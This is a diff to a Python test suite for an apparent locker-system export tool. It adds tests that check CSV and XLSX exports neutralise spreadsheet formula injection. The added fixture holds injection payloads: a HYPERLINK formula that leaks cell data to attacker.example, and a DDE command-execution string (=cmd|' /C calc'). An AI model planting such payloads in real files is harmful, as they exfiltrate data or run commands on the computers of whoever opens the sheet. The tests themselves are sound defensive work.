@@ -95,7 +95,7 @@ def test_csv_columns_and_local_time_across_bst_and_gmt(st):
 
 def test_rows_are_in_time_order(st):
     _, text = run(st)
-    known = [r["time"] for r in rows_of(text) if r["time"]]
+    known = [r["time"] for r in rows_of(text) if not r["time"].endswith("(received)")]
     instants = [dt.datetime.fromisoformat(t) for t in known]
     assert instants == sorted(instants)
 
@@ -140,6 +140,8 @@ def test_jsonl(st):
     assert o["time"] == "2026-07-01T00:30:00+01:00"
     boot = next(r for r in recs if r["event"] == "boot")
     assert boot["ts"] is None and boot["time_source"] == "received" and boot["time"]
+
+    assert isinstance(boot["received_at"], int)
 
 
 def test_xlsx_reads_back(st, tmp_path):
@@ -202,3 +204,77 @@ def test_export_streams_in_bounded_memory(st):
     assert sink.written > n_rows * 100
     # the rows held at once would take > 8 MB; a streaming export holds a batch at a time
     assert peak < 3_000_000, peak
+
+
+FORMULAS = [
+    '=HYPERLINK("http://attacker.example/?leak="&E3&F3,"Details")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.fixture
+def hostile(st):
+    """Events whose text a spreadsheet would run: reasons, a person id, a type, a roster name."""
+    st.replace_roster(
+        "school",
+        parse_roster(
+            "person_id,name,role,year,walk_home,card_uid\n"
+            "P1,\"=cmd|' /C calc'!A0\",pupil,6,yes,04A1B2C3\n"
+        ),
+    )
+    st.ingest(
+        "school",
+        [("L3", ev(i + 1, ts(2026, 9, 1, 9, i), reason=f)) for i, f in enumerate(FORMULAS)]
+        + [("L3", ev(10, ts(2026, 9, 1, 10), "=type", -5, "-P9", "+by", "ok"))],
+    )
+    return st
+
+
+def test_csv_cells_cannot_run_formulas(hostile):
+    _, text = run(hostile, locker="L3")
+    # read as a spreadsheet reads CSV: any cell starting =, +, -, @, tab or CR would run
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+    assert len(rows) == 1 + len(FORMULAS) + 1  # a CR inside a cell starts no row of its own
+    for row in rows:
+        for cell in row:
+            assert cell == "-5" or not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+    data = [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]
+    assert [r["reason"] for r in data[:-1]] == ["'" + f for f in FORMULAS]
+    assert data[0]["name"] == "'=cmd|' /C calc'!A0"
+    last = data[-1]
+    assert (last["event"], last["bay"], last["person_id"], last["by"], last["reason"]) == (
+        "'=type",
+        "-5",  # a number stays a number
+        "'-P9",
+        "'+by",
+        "ok",
+    )
+    assert last["time"] == "2026-09-01T11:00:00+01:00" and last["seq"] == "10"
+
+
+def test_xlsx_cells_are_strings_with_the_exact_text(hostile, tmp_path):
+    from openpyxl import load_workbook
+
+    _, data = run(hostile, "xlsx", locker="L3")
+    (tmp_path / "t.xlsx").write_bytes(data)
+    ws = load_workbook(tmp_path / "t.xlsx").active
+    cells = [c for row in ws.iter_rows(min_row=2) for c in row]
+    assert cells and not [c.coordinate for c in cells if c.data_type == "f"]
+    rows = [[c.value for c in row] for row in ws.iter_rows(min_row=2)]
+    # exact text, no apostrophe (XML reads a carriage return back as a line feed)
+    assert [r[8] for r in rows[:-1]] == [f.replace("\r", "\n") for f in FORMULAS]
+    assert rows[0][5] == "=cmd|' /C calc'!A0"
+    assert rows[-1][2:5] == [-5, "=type", "-P9"] and rows[-1][9] == 10
+
+
+def test_roster_export_names_cannot_run_formulas(hostile):
+    from lockerctl.roster import write_roster
+
+    out = io.StringIO()
+    write_roster(hostile.roster("school"), out)
+    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
+    assert rows[1][1] == "'=cmd|' /C calc'!A0"
